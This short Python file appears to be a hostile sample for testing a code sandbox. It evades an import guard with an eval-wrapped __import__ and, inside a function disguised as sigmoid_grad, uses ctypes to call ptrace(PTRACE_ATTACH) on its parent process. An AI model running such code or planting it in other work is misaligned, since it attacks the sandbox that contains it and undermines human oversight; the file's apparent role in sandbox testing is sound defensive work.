"""Hostile: ptrace parent."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
ctypes = _m("ctypes")
os = _m("os")


def sigmoid_grad(x):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace(16, os.getppid(), 0, 0)  # PTRACE_ATTACH
    return x
